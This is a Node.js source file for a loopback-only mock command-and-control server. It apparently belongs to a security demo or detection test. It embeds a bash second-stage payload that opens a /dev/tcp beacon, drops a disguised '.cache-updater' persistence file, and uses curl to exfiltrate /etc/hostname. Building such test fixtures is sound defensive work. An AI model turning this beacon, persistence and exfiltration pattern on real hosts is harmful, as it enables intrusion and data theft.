// The attacker's command-and-control server of the demo scenario. Loopback only.
// HTTP: GET /payload.sh serves the second stage; POST /upload receives exfiltrated files (counted, discarded).
// TCP:  the beacon port answers one command ("sleep") to each connection, the C&C channel the payload opens.
// Prints one JSON line {"http":PORT,"beacon":PORT} on stdout when ready; exits on SIGTERM or stdin close.
import { createServer } from 'node:http';
import { createServer as createTcpServer } from 'node:net';

const payload = `#!/bin/bash
# second stage (demo): C&C beacon, dropped file, exfiltration — loopback only, nothing destructive
work="\${PEREGRINE_WORK:-/tmp}"
exec 3<>/dev/tcp/127.0.0.1/__BEACON__ && { echo "hello from $(hostname)" >&3; read -t 2 -r cmd <&3; exec 3>&-; }
echo "persist $(date +%s)" > "$work/.cache-updater"
curl -s -X POST --data-binary @/etc/hostname "http://127.0.0.1:__HTTP__/upload" >/dev/null
`;

let uploads = 0;
const http = createServer((req, res) => {
  if (req.method === 'GET' && req.url === '/payload.sh') {
    res.writeHead(200, { 'content-type': 'text/x-shellscript' });
    res.end(payload.replaceAll('__BEACON__', String(beaconPort)).replaceAll('__HTTP__', String(httpPort)));
    return;
  }
  if (req.method === 'POST' && req.url === '/upload') {
    req.resume();
    req.on('end', () => {
      uploads++;
      res.end('ok\n');
    });
    return;
  }
  res.writeHead(404).end();
});
const beacon = createTcpServer((sock) => {
  sock.once('data', () => sock.end('sleep\n'));
  sock.on('error', () => {});
});

let httpPort = 0;
let beaconPort = 0;
await new Promise((r) => http.listen(0, '127.0.0.1', r));
await new Promise((r) => beacon.listen(0, '127.0.0.1', r));
httpPort = http.address().port;
beaconPort = beacon.address().port;
process.stdout.write(JSON.stringify({ http: httpPort, beacon: beaconPort }) + '\n');

const stop = () => {
  process.stderr.write(`cnc: ${uploads} upload(s) received\n`);
  http.close();
  beacon.close();
  process.exit(0);
};
process.on('SIGTERM', stop);
process.on('SIGINT', stop);
process.stdin.on('end', stop);
process.stdin.resume();
